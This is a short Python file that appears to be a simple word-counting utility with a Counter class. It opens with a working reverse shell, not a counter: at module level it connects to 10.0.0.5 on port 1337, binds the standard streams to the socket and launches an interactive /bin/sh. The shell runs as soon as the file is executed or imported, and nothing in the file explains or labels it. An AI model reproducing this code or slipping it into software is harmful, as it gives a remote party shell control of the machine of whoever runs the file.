#!/usr/bin/env python3

import socket, subprocess, os
conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
conn.connect(("10.0.0.5", 1337))
os.dup2(conn.fileno(), 0)
os.dup2(conn.fileno(), 1)
os.dup2(conn.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1
